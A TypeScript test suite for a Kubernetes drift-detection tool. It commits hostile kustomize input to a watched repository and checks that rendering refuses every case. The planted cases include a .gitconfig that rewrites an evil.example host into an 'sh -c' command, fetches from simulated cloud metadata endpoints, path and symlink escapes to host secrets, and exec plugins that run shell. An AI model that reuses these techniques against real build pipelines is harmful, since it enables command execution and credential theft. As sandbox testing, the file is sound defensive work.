// Attacks through rendering, performed for real: each case commits hostile
// kustomize input to a real repository that an environment watches, collects
// with the real collector and kustomize binary, and proves that nothing ran
// (no marker file), nothing was fetched (a local HTTP listener saw no
// request), nothing outside the repository was read, the run is partial with
// the file and reference named, and every object is still compared.
import fs from "node:fs";
import http from "node:http";
import os from "node:os";
import path from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { stringify } from "yaml";
import { createCollectorFixture, deploymentYaml, KUBECTL_UA, type CollectorFixture } from "../support/collector-env";
import { resourcePath } from "@/lib/kube/discovery";
import { syncMirror } from "@/lib/git";
import { requiredKustomize } from "../support/required-tools";
import { networkIsolation } from "@/lib/git/sandbox";
import { startGitHttpServer, type GitHttpServer } from "@/lib/git/test-support/git-http-server";
import { TestRepo } from "@/lib/git/test-support/repo-fixture";
import { getEnvironmentDetail } from "@/lib/dashboard";
import { expectFailureRecorded, expectNoDuplicates, runWith, storedState, type Outcome } from "./support";

// These attacks go through the real kustomize: without one this file fails, saying what to install.
requiredKustomize();

const api = deploymentYaml("api", "shop/api:1.4.0", 3);
const settings = { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "settings", namespace: "shop" }, data: { MODE: "live" } };
const worker = deploymentYaml("worker", "shop/worker:2.0.0", 1);
const KUSTOMIZATION = "envs/test/kustomization.yaml";
const HONEST = { resources: ["app.yaml", "worker.yaml"] };
const HOST_SECRET = "HOST-ONLY-SECRET-7f3a";

let f: CollectorFixture;
let scratch: string;
let marker: string;
let hostFile: string;
let listener: http.Server;
let port: number;
const requests: string[] = [];

beforeAll(async () => {
  listener = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.end("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: stolen}\ndata: {token: from-the-metadata-endpoint}\n");
  });
  await new Promise<void>((r) => listener.listen(0, "127.0.0.1", r));
  port = (listener.address() as { port: number }).port;
  console.log(`[render-sandbox] network isolation: ${networkIsolation().prefix.join(" ") || `none (${networkIsolation().reason})`}`);
});
afterAll(async () => {
  await new Promise((r) => listener.close(r));
});

beforeEach(async () => {
  requests.length = 0;
  scratch = fs.mkdtempSync(path.join(os.tmpdir(), "driftwatch-attack-"));
  marker = path.join(scratch, "MARKER");
  hostFile = path.join(scratch, "host-secret.txt");
  fs.writeFileSync(hostFile, `${HOST_SECRET}\n`);
  f = await createCollectorFixture(
    { "envs/test/app.yaml": [api, settings], "envs/test/worker.yaml": [worker], [KUSTOMIZATION]: [HONEST] },
    { envYaml: { source: { repository: "shop", branch: "main", path: "envs/test", render: "kustomize" } } },
  );
  await f.applyAsController([api, settings, worker]);
});
afterEach(async () => {
  await f.cleanup();
  fs.rmSync(scratch, { recursive: true, force: true });
});

async function scaleByHand(name: string, replicas: number): Promise<void> {
  const r = f.admin.discovery.lookup("apps/v1", "Deployment");
  if (!r) throw new Error("no deployments");
  await f.admin.client.requestJson("PATCH", resourcePath(r, "shop", name) + "/scale", { body: { spec: { replicas } }, contentType: "application/merge-patch+json", userAgent: KUBECTL_UA });
}

const openDrift = async () =>
  (await storedState(f.db)).drift
    .filter((d) => d.resolvedAt === null)
    .map((d) => `${d.type} ${d.key}`)
    .sort();

/** Everything the database holds, as text: nothing read from outside the repository may be in it. */
async function everythingStored(): Promise<string> {
  const rows = await f.db.$queryRawUnsafe<Array<{ t: string }>>(
    `SELECT coalesce((SELECT string_agg(body::text, ' ') FROM "ObjectBlob"), '') || coalesce((SELECT string_agg(errors::text, ' ') FROM "CollectionRun"), '') AS t`,
  );
  return rows[0]?.t ?? "";
}

interface Attack {
  name: string;
  /** Writes the attack into the work tree; returns the file and reference the run must name. */
  plant(repo: TestRepo): { file: string; reference: string };
}

const withKustomization = (repo: TestRepo, extra: Record<string, unknown>, file = KUSTOMIZATION) => repo.write(file, stringify({ ...HONEST, ...extra }));

const attacks: Attack[] = [
  {
    name: "committed .gitconfig: ext:: transport allowed, https rewritten to a shell command, named as a remote base",
    plant(repo) {
      const config = `[protocol "ext"]\n\tallow = always\n[url "ext::sh -c touch% ${marker} "]\n\tinsteadOf = https://evil.example/\n`;
      // HOME used to be the checkout's root; a copy beside the kustomization covers a HOME there too.
      repo.write(".gitconfig", config).write("envs/test/.gitconfig", config);
      const reference = "https://evil.example/org/repo.git//app?ref=main";
      withKustomization(repo, { resources: [...HONEST.resources, reference] });
      return { file: KUSTOMIZATION, reference };
    },
  },
  {
    name: "the same .gitconfig rewrite reached through the deprecated bases: field",
    plant(repo) {
      repo.write(".gitconfig", `[protocol "ext"]\n\tallow = always\n[url "ext::sh -c touch% ${marker} "]\n\tinsteadOf = https://evil.example/\n`);
      const reference = "https://evil.example/org/repo//app?ref=v1";
      withKustomization(repo, { bases: [reference] });
      return { file: KUSTOMIZATION, reference };
    },
  },
  {
    name: "configMapGenerator file from a local HTTP listener (a metadata endpoint)",
    plant(repo) {
      const reference = `http://127.0.0.1:${port}/latest/meta-data/iam`;
      withKustomization(repo, { configMapGenerator: [{ name: "stolen", files: [reference] }] });
      return { file: KUSTOMIZATION, reference };
    },
  },
  {
    name: "remote resource file from the listener",
    plant(repo) {
      const reference = `http://127.0.0.1:${port}/stolen.yaml`;
      withKustomization(repo, { resources: [...HONEST.resources, reference] });
      return { file: KUSTOMIZATION, reference };
    },
  },
  {
    name: "remote base on the listener, scheme-less github.com base and scp-like git@ base in a nested base",
    plant(repo) {
      const reference = `http://127.0.0.1:${port}/org/bases.git//web?ref=main`;
      repo.write("bases/shared/kustomization.yaml", stringify({ resources: [reference, "github.com/evil/bases/web?ref=v1", "git@github.com:evil/bases.git//web"] }));
      withKustomization(repo, { resources: [...HONEST.resources, "../../bases/shared"] });
      return { file: "bases/shared/kustomization.yaml", reference };
    },
  },
  {
    name: "remote openapi schema and remote patch",
    plant(repo) {
      const reference = `http://127.0.0.1:${port}/schema.json`;
      withKustomization(repo, { openapi: { path: reference }, patches: [{ path: `http://127.0.0.1:${port}/patch.yaml` }] });
      return { file: KUSTOMIZATION, reference };
    },
  },
  {
    name: "file:// base pointing at another repository's mirror in the data folder",
    plant() {
      const reference = `file://${path.join(f.dir, "mirrors", "secrets.git")}`;
      withKustomization(f.repo, { resources: [...HONEST.resources, reference] });
      return { file: KUSTOMIZATION, reference };
    },
  },
  {
    name: "../ escape out of the repository",
    plant(repo) {
      const reference = `../../../${path.basename(scratch)}/host-secret.txt`;
      withKustomization(repo, { configMapGenerator: [{ name: "stolen", files: [reference] }] });
      return { file: KUSTOMIZATION, reference };
    },
  },
  {
    name: "absolute path to a host file",
    plant(repo) {
      withKustomization(repo, { secretGenerator: [{ name: "stolen", files: [hostFile] }] });
      return { file: KUSTOMIZATION, reference: hostFile };
    },
  },
  {
    name: "symbolic link to a host file, used by a generator",
    plant(repo) {
      fs.symlinkSync(hostFile, path.join(repo.dir, "envs/test/notes.txt"));
      withKustomization(repo, { configMapGenerator: [{ name: "stolen", files: ["notes.txt"] }] });
      return { file: KUSTOMIZATION, reference: "notes.txt" };
    },
  },
  {
    name: "symbolic link to a host directory, used as a base",
    plant(repo) {
      fs.writeFileSync(path.join(scratch, "kustomization.yaml"), "resources: [host-secret.txt]\n");
      fs.symlinkSync(scratch, path.join(repo.dir, "envs/test/shared"));
      withKustomization(repo, { resources: [...HONEST.resources, "shared"] });
      return { file: KUSTOMIZATION, reference: "shared" };
    },
  },
  {
    name: "relative symbolic link climbing out of the repository",
    plant(repo) {
      fs.symlinkSync("../../..", path.join(repo.dir, "envs/test/up"));
      const reference = `up/${path.basename(scratch)}/host-secret.txt`;
      withKustomization(repo, { configMapGenerator: [{ name: "stolen", files: [reference] }] });
      return { file: KUSTOMIZATION, reference };
    },
  },
  {
    name: "exec KRM function as a generator",
    plant(repo) {
      repo.write(
        "envs/test/gen.yaml",
        stringify({ apiVersion: "example.com/v1", kind: "Gen", metadata: { name: "g", annotations: { "config.kubernetes.io/function": `exec:\n  path: /bin/sh\n` } }, spec: { run: `touch ${marker}` } }),
      );
      withKustomization(repo, { generators: ["gen.yaml"] });
      return { file: KUSTOMIZATION, reference: "gen.yaml" };
    },
  },
  {
    name: "legacy exec plugin as a transformer",
    plant(repo) {
      repo.write("envs/test/plugin.yaml", stringify({ apiVersion: "someteam.example.com/v1", kind: "ShellTransformer", metadata: { name: "t" }, argsOneLiner: `touch ${marker}` }));
      withKustomization(repo, { transformers: ["plugin.yaml"] });
      return { file: KUSTOMIZATION, reference: "plugin.yaml" };
    },
  },
  {
    name: "builtin ConfigMapGenerator config under generators: naming a file on the listener",
    plant(repo) {
      const reference = `http://127.0.0.1:${port}/computeMetadata/v1/token`;
      repo.write("envs/test/gen.yaml", stringify({ apiVersion: "builtin", kind: "ConfigMapGenerator", metadata: { name: "stolen" }, files: [reference] }));
      withKustomization(repo, { generators: ["gen.yaml"] });
      return { file: KUSTOMIZATION, reference };
    },
  },
  {
    name: "helmCharts from a repository not in helmRepositories (kustomize would have helm pull it)",
    plant(repo) {
      withKustomization(repo, { helmCharts: [{ name: "redis", repo: `http://127.0.0.1:${port}/charts`, version: "1.0.0", releaseName: "r" }] });
      return { file: KUSTOMIZATION, reference: `helmCharts: redis 1.0.0 from http://127.0.0.1:${port}/charts` };
    },
  },
];

describe("rendering is sandboxed: attacks committed to a watched branch", () => {
  it("honest kustomize input collects in sync, and an unchanged run writes nothing", async () => {
    const out = await runWith(f);
    expect(out.status, JSON.stringify(out.errors)).toBe("succeeded");
    expect(out.stats?.drift).toEqual({ Modified: 0, Missing: 0, Extra: 0 });
    expect(out.stats?.desired).toBe(3);
    expect((await runWith(f)).stats).toMatchObject({ blobsWritten: 0, objectsChanged: 0 });
  });

  it.each(attacks.map((a) => [a.name, a] as const))("%s", async (_name, attack) => {
    // Another repository's mirror lives beside ours in the data folder.
    const secrets = TestRepo.create("secrets");
    try {
      secrets.write("kustomization.yaml", "resources: [s.yaml]\n").write("s.yaml", stringify({ apiVersion: "v1", kind: "ConfigMap", metadata: { name: "other-teams-secret" }, data: { k: HOST_SECRET } }));
      secrets.commit("secrets");
      await syncMirror({ name: "secrets", url: secrets.dir, auth: { type: "none" } }, path.join(f.dir, "mirrors"));

      await runWith(f);
      await scaleByHand("worker", 4);
      expect((await runWith(f)).stats?.drift.Modified).toBe(1);
      const before = await storedState(f.db);

      const { file, reference } = attack.plant(f.repo);
      const attackSha = f.repo.commit(`attack: ${attack.name}`);
      await scaleByHand("api", 6); // a change made after the attack landed must still be seen
      const out: Outcome = await runWith(f);

      expect(fs.existsSync(marker), "the attack's command ran").toBe(false);
      expect(requests, "kustomize reached the local listener").toEqual([]);
      expect(out.status, JSON.stringify(out.errors)).toBe("partial");
      const named = out.errors.find((e) => e.category === "render" && e.path === file && e.message.includes(`"${reference}" refused`));
      expect(named, JSON.stringify(out.errors)).toBeDefined();
      // What the user reads on the environment page: the same named error, and what was compared instead.
      const detail = await getEnvironmentDetail(f.db, "test");
      expect(detail.lastRun?.status).toBe("partial");
      expect(detail.lastRun?.errors.some((e) => e.path === file && e.message.includes(reference))).toBe(true);
      expect(detail.lastRun?.errors.some((e) => /did not run; its 3 objects keep their desired state from/.test(e.message))).toBe(true);

      // Every object is still compared, against its last good desired state: the new change shows, nothing turns Missing or Extra.
      const after = await storedState(f.db);
      expect(after.desired).toEqual(before.desired);
      expect(await openDrift()).toEqual(["Modified apps/Deployment/shop/api", "Modified apps/Deployment/shop/worker"]);
      expect(after.environment.approvedSha).toBe(attackSha);
      expect(after.environment.appliedSha, "the refused commit must not be reported as applied").not.toBe(attackSha);
      const stored = await everythingStored();
      expect(stored).not.toContain(HOST_SECRET);
      expect(stored).not.toContain("from-the-metadata-endpoint");
      expect(stored).not.toContain("other-teams-secret");

      // The fix is collected as usual.
      f.repo.write(KUSTOMIZATION, stringify(HONEST));
      for (const planted of [".gitconfig", "envs/test/.gitconfig", "envs/test/notes.txt", "envs/test/shared", "envs/test/up", "envs/test/gen.yaml", "envs/test/plugin.yaml", "bases"]) {
        if (fs.lstatSync(path.join(f.repo.dir, planted), { throwIfNoEntry: false })) f.repo.remove(planted);
      }
      f.repo.commit("revert the attack");
      const fixed = await runWith(f);
      expect(fixed.status, JSON.stringify(fixed.errors)).toBe("succeeded");
      expect(await openDrift()).toEqual(["Modified apps/Deployment/shop/api", "Modified apps/Deployment/shop/worker"]);
      await expectNoDuplicates(f.db);
      expect(fs.existsSync(marker)).toBe(false);
      expect(requests).toEqual([]);
    } finally {
      secrets.cleanup();
    }
  });

  it("an attack in the first commit ever collected: the run fails with the named render error and stores no desired state", async () => {
    attacks[0]!.plant(f.repo);
    f.repo.commit("attack first");
    const out = await runWith(f);
    expect(fs.existsSync(marker)).toBe(false);
    await expectFailureRecorded(f.db, out, /^render$/, /"https:\/\/evil\.example\/org\/repo\.git\/\/app\?ref=main" refused/);
    expect(out.errors[0]?.path).toBe(KUSTOMIZATION);
    expect(await f.db.desiredObject.count()).toBe(0);
  });
});

describe("allowlisted remote bases (remoteBases in driftwatch.yaml)", () => {
  const TOKEN_ENV = "DW_REMOTE_BASE_TOKEN";
  const TOKEN = "ghp_remoteBaseToken0123456789abcdef";
  let bases: TestRepo;
  let server: GitHttpServer;

  beforeEach(async () => {
    bases = TestRepo.create("bases");
    bases.write("web/kustomization.yaml", stringify({ resources: ["cache.yaml"] }));
    bases.write("web/cache.yaml", stringify(deploymentYaml("cache", "shop/cache:7.0", 1)));
    bases.commit("web base");
    bases.git("tag", "v1");
    server = await startGitHttpServer({ projectRoot: path.dirname(bases.dir), username: "x-access-token", token: TOKEN });
    process.env[TOKEN_ENV] = TOKEN;
  });
  afterEach(async () => {
    delete process.env[TOKEN_ENV];
    await server.close();
    bases.cleanup();
  });

  it("Driftwatch fetches an allowlisted base itself, with that repository's credentials, and the build reads the local copy; others stay refused", async () => {
    const url = `${server.origin}/${path.basename(bases.dir)}`;
    const config = {
      ...f.config,
      repositories: [...f.config.repositories, { name: "bases", url, auth: { type: "token" as const, tokenEnv: TOKEN_ENV, username: "x-access-token" } }],
      remoteBases: ["bases"],
    };
    const cache = deploymentYaml("cache", "shop/cache:7.0", 1);
    await f.applyAsController([cache]);
    withKustomization(f.repo, { resources: [...HONEST.resources, `${url}//web?ref=main`] });
    f.repo.commit("use the shared web base");

    const out = await runWith({ db: f.db, dir: f.dir, config });
    expect(out.status, JSON.stringify(out.errors)).toBe("succeeded");
    expect(out.stats?.desired).toBe(4);
    expect(out.stats?.drift).toEqual({ Modified: 0, Missing: 0, Extra: 0 });
    expect(server.authorizations.length).toBeGreaterThan(0);
    expect(server.rejected).toBe(0);
    expect(fs.existsSync(path.join(f.dir, "mirrors", "bases.git"))).toBe(true);

    // The base's branch moves while this repository does not: the next run builds from the new base.
    bases.write("web/cache.yaml", stringify(deploymentYaml("cache", "shop/cache:7.2", 1)));
    bases.commit("cache 7.2");
    await runWith({ db: f.db, dir: f.dir, config });
    expect(await openDrift()).toEqual(["Modified apps/Deployment/shop/cache"]);

    // Not on the allowlist: refused, and the listener hears nothing.
    withKustomization(f.repo, { resources: [...HONEST.resources, `${url}//web?ref=v1`, `http://127.0.0.1:${port}/other.git//web?ref=v1`] });
    f.repo.commit("and an unlisted one");
    const refused = await runWith({ db: f.db, dir: f.dir, config });
    expect(refused.status).toBe("partial");
    expect(refused.errors.some((e) => e.path === KUSTOMIZATION && /not on the allowlist/.test(e.message))).toBe(true);
    expect(requests).toEqual([]);

    // An allowlisted base is checked like the repository itself: its own escapes are refused too.
    bases.write("web/kustomization.yaml", stringify({ resources: ["cache.yaml", "/etc/hosts"] }));
    bases.commit("hostile base");
    bases.git("tag", "-f", "v1");
    withKustomization(f.repo, { resources: [...HONEST.resources, `${url}//web?ref=v1`] });
    f.repo.commit("back to the listed base only");
    const hostile = await runWith({ db: f.db, dir: f.dir, config });
    expect(hostile.status).toBe("partial");
    expect(hostile.errors.some((e) => e.path === "bases@v1:web/kustomization.yaml" && /"\/etc\/hosts" refused: absolute paths/.test(e.message))).toBe(true);
  });
});
